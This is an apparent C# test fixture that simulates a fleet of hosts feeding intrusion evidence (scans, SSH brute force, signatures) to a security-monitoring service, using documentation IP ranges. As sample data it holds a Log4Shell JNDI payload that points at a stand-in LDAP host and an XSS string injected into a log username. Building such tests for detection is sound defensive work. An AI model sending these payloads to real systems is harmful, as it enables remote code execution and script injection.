using Tegument.Contracts.Client;
using Tegument.Contracts.Evidence;

namespace Tegument.Tests.Scene;

/// <summary>
/// Hosts and what happens to them: a calm trickle of evidence, and an attack from one network when asked for. Addresses are of the networks for
/// documentation (RFC 5737, RFC 3849). Told from one thread.
/// </summary>
public sealed class PlayedFleet(SiloEndpoint silo) : IAsyncDisposable
{
    private static readonly (string Name, double Packets, double Dropped)[] Known =
    [
        ("edge-1", 14_800, 90), ("edge-2", 13_900, 74), ("web-1", 3200, 9), ("web-2", 3000, 8), ("web-3", 2900, 5), ("web-4", 1100, 2), ("db-1", 1400, 1),
        ("db-2", 6100, 1), ("db-3", 900, 0), ("mail-1", 420, 3), ("ci-1", 210, 0), ("ci-2", 190, 0), ("lab-1", 60, 0), ("vpn-1", 130, 1),
    ];

    private static readonly (EvidenceKind Kind, string Technique, int[] Ports)[] Small =
    [
        (EvidenceKind.Log, "sshd-failed", [22]), (EvidenceKind.Log, "postfix-sasl", [25]), (EvidenceKind.PortScan, "connect", [22, 80, 443, 3389]), (EvidenceKind.Malformed, "bad-length", [443]),
        (EvidenceKind.Log, "nginx-botsearch", [443]), (EvidenceKind.PortScan, "udp", [53, 123, 161]), (EvidenceKind.Anomaly, "icmp-tunnel", []),
    ];

    private readonly Random _random = new(11);

    public List<PlayedHost> Hosts { get; } = [];

    public async Task StartAsync(int hosts, bool enforcing = true, CancellationToken cancel = default)
    {
        foreach (var (name, packets, dropped) in Known.Take(hosts))
        {
            var host = new PlayedHost(silo, name) { PacketsPerSecond = packets, DroppedPerSecond = enforcing ? dropped : 0, Enforcing = enforcing };
            await host.StartAsync(cancel);
            Hosts.Add(host);
        }
    }

    /// <summary>A second of an ordinary day.</summary>
    public async Task CalmAsync()
    {
        if (_random.Next(14) == 0)
        {
            var (kind, technique, ports) = Small[_random.Next(Small.Length)];
            var host = Any(Hosts.Count);
            var source = $"198.51.100.{_random.Next(2, 250)}";
            await host.TellAsync([host.Item(source, kind, technique, _random.Next(1, 3), ports.Length, 1, verified: kind == EvidenceKind.Log, sample: Sample(kind, source), topPorts: ports)]);
        }
    }

    /// <summary>A second of an attack: scans and guessed passwords from 203.0.113.0/24, a few signatures, more with <paramref name="strength"/>.</summary>
    public async Task AttackAsync(int strength = 8)
    {
        for (var n = 0; n < strength; n++)
        {
            var host = Any(6);
            var source = $"203.0.113.{_random.Next(1, 60)}";
            var item = _random.Next(10) switch
            {
                < 6 => host.Item(source, EvidenceKind.PortScan, _random.Next(3) switch { 0 => "connect", 1 => "syn", _ => "fin" }, _random.Next(4, 60), _random.Next(4, 60), 1, _random.Next(2) == 0,
                    sample: "21-23,25,53,80,110-111,135,139,443,445 in 2.1 s", topPorts: [22, 443, 80, 3389, 8080, 5432]),
                < 9 => host.Item(source, EvidenceKind.BruteForce, "ssh", _random.Next(2, 9), 1, 1, sample: "SSH-2.0-libssh_0.9.6", topPorts: [22]),
                _ => host.Item(source, EvidenceKind.Signature, "log4shell", 1, 1, 1, severity: 3, sample: "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1", topPorts: [443]),
            };
            await host.TellAsync([item]);
        }

        foreach (var host in Hosts.Take(2)) (host.PacketsPerSecond, host.DroppedPerSecond) = (26_000, Math.Min(700, host.DroppedPerSecond + 40));
    }

    public async ValueTask DisposeAsync()
    {
        foreach (var host in Hosts) await host.DisposeAsync();
    }

    private PlayedHost Any(int most)
    {
        var alive = Hosts.Where(host => !host.IsGone).Take(most).ToList();
        return alive[_random.Next(alive.Count)];
    }

    private static string? Sample(EvidenceKind kind, string source) => kind == EvidenceKind.Log ? $"Failed password for invalid user <script>alert(1)</script> from {source} port 40122 ssh2" : null;
}
